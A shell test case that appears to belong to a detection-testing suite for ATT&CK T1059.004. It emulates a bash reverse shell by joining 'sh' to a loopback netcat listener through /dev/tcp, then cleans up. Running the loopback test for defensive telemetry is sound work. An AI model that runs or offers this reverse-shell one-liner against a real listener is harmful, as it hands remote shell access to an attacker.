#!/bin/sh
# case: T1059.004-bash-coproc-tcp
# technique: Unix Shell: exec with two descriptors to a listener
# source: pentestmonkey; revshells
# needs: bash nc
# expect: exec net
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need bash nc
P=$((20000 + $$ % 20000)); ( echo id; sleep 2 ) | nc -l 127.0.0.1 "$P" >/dev/null 2>&1 & L=$!; sleep 1
timeout 3 bash -c '0<&196;exec 196<>/dev/tcp/127.0.0.1/'"$P"'; sh <&196 >&196 2>&196' >/dev/null 2>&1; kill $L 2>/dev/null; wait 2>/dev/null; true
exit 0
